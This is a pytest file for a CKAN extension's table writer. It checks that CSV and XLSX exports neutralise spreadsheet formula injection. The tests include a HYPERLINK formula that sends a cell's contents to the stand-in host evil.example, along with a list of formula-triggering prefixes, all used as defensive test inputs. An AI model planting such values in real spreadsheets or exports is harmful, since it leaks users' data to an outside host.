"""The one formula-safe table writer (issue 14, item 6): CSV and XLSX cells stay data."""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from ckanext.dongchang.kernel import tables

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
FORMULAS = [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "  =1+1", "＝1+1", "－1"]


def _csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", FORMULAS)
def test_item6_csv_cell_that_starts_a_formula_gets_an_apostrophe(text):
    assert tables.csv_cell(text) == "'" + text
    assert tables.csv_unescape(tables.csv_cell(text)) == text


@pytest.mark.parametrize("text", ["东昌府区公交站点", "", "a=b", "'quoted", "2026-01-01",
                                  "{\"a\": 1}"])
def test_item6_csv_cell_leaves_ordinary_text_alone(text):
    assert tables.csv_cell(text) == text
    assert tables.csv_unescape(text) == text


def test_item6_numbers_stay_numbers():
    assert tables.csv_cell(-3) == -3
    assert tables.csv_cell(-0.5) == -0.5
    assert _csv_cells(tables.csv_bytes([[-3, None, 1.5]])) == [["-3", "", "1.5"]]


def test_item6_csv_bytes_writes_every_formula_as_text_with_a_bom():
    body = tables.csv_bytes([["title"], *([text] for text in FORMULAS)])
    assert body.startswith("\ufeff".encode())
    assert [row[0] for row in _csv_cells(body)[1:]] == ["'" + text for text in FORMULAS]


def test_item6_xlsx_bytes_stores_formulas_as_strings():
    body = tables.xlsx_bytes({"one": [["title", "count"], *([text, 3] for text in FORMULAS)],
                              "two": [["x"]]})
    book = load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["one", "two"]
    rows = list(book["one"].iter_rows(min_row=2))
    assert [row[0].value for row in rows] == FORMULAS
    assert {row[0].data_type for row in rows} == {"s"}
    assert {row[1].value for row in rows} == {3}
